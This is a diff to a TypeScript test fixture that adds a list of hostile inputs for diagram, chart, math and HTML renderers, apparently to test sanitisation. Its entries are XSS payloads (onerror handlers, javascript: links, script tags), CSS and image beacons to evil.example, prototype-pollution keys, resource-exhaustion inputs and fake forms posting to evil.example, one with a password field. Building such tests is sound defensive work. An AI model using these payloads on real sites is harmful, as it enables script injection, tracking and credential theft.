@@ -43,6 +43,50 @@ export const hostileTexts: readonly string[] = [
   '__proto__ [__proto__] [constructor][__proto__]\n\n[__proto__]: https://example.com/p\n[constructor]: https://example.com/c',
 ];
 
+function fenced(language: string, code: string): string {
+  return `\`\`\`${language}\n${code}\n\`\`\`\n`;
+}
+
+/** The same for what plug-ins show. */
+export const hostilePluginTexts: readonly string[] = [
+  ...[
+    'graph TD\n  A@{ img: "https://evil.example/m1", label: "x" }',
+    'graph TD\n  A["<img src=https://evil.example/m2>"] --> B["<img src=x onerror=window.pwned=1>"]',
+    '%%{init: {"themeCSS": "* { background: url(https://evil.example/m3) }", "securityLevel": "loose"}}%%\ngraph TD\n  A --> B',
+    '---\nconfig:\n  themeCSS: "* { background: url(https://evil.example/m4) }"\n---\ngraph TD\n  A --> B',
+    'graph TD\n  A --> B\n  click A "javascript:window.pwned=1"\n  click B href "https://evil.example/m5" _self',
+    'graph TD\n  A --> B\n  style A fill:url(https://evil.example/m6)\n  classDef x fill:url("https://evil.example/m7")\n  class B x',
+    'graph TD\n  A --> B\n  classDef x fill:u\\72l(https://evil.example/m8)\n  class B x',
+    'sequenceDiagram\n  participant A\n  link A: Board @ https://evil.example/m9\n  links A: {"x": "javascript:window.pwned=1"}\n  A->>A: <script>window.pwned=1</script>',
+    'classDiagram\n  class A\n  link A "https://evil.example/m10"\n  callback A "alert"',
+    'graph TD\n  A["$$\\includegraphics{https://evil.example/m11}$$"]',
+    'mindmap\n  root((x))\n    ::icon(fa fa-book)\n    <svg/onload=window.pwned=1>',
+    'C4Context\n  Person(a, "x", "y", $sprite="https://evil.example/m12", $link="https://evil.example/m13")',
+    'graph TD\n  A["`![x](https://evil.example/m14)`"]',
+    'architecture-beta\n  service db(https://evil.example/m15)[x]',
+  ].map((code) => fenced('mermaid', code)),
+  ...[
+    '{"tooltip":{"formatter":"<img src=x onerror=window.pwned=1>"},"series":[{"type":"bar","data":[1,2],"symbol":"image://https://evil.example/e1"}]}',
+    '{"title":{"text":"<img src=https://evil.example/e2>","link":"javascript:alert(1)"},"graphic":{"type":"image","style":{"image":"https://evil.example/e3"}},"series":[{"type":"pie","name":"</svg><script>window.pwned=1</script>","data":[{"name":"<b>","value":1},{"name":"url(https://evil.example/e4)","value":"2"}]}]}',
+    '{"__proto__":{"type":"bar"},"constructor":{"prototype":{"pwned":1}},"series":[{"type":"line","data":[1e999,-1e308,null,"x",{"value":{"value":1}},[[1]]]}]}',
+    '(() => { window.pwned = 1; return {series: [{type: "bar", data: [1]}]} })()',
+    `{"series":[{"type":"bar","data":[${'1,'.repeat(5000)}1]}]}`,
+  ].map((code) => fenced('echarts', code)),
+  '$\\href{javascript:window.pwned=1}{x}$ $\\url{https://evil.example/k1}$ $\\includegraphics{https://evil.example/k2}$',
+  '$\\htmlStyle{background: url(https://evil.example/k3)}{x}$ $\\htmlClass{fixed}{x}$ $\\htmlData{x=1}{y}$ $\\htmlId{__NEXT_DATA__}{z}$',
+  '$$\n\\def\\x{\\x\\x}\\x\n$$\n\n$\\color{url(https://evil.example/k4)}x$ $\\text{<img src=https://evil.example/k5>}$ $\\rule{99999em}{99999em}$',
+  fenced('js', '"<img src=https://evil.example/h1>"; // </code></pre><script>window.pwned=1</script>'),
+  fenced(
+    'html',
+    '<img src="https://evil.example/h2" onerror="window.pwned=1"><style>@import "https://evil.example/h3"</style>',
+  ),
+  fenced('__proto__', 'x'),
+  '<button data-message="pay" formaction="https://evil.example/f1" onclick="window.pwned=1" style="position:fixed;inset:0">OK</button>',
+  '<form action="https://evil.example/f2" data-format="json">\n<label for="a">a</label>\n<input name="a" type="text" onfocus="window.pwned=1" autofocus value="&quot;><img src=https://evil.example/f3>">\n<button formaction="https://evil.example/f4">Go</button>\n</form>',
+  '<form><input name="password" type="password"><button>Sign in</button></form>',
+  '<form><input type="image" src="https://evil.example/f5" name="x"><button>Go</button></form>',
+];
+
 /** Texts that take long, or much of the call stack, when they are read without care. */
 export function heavyTexts(): readonly (readonly [string, string])[] {
   return [
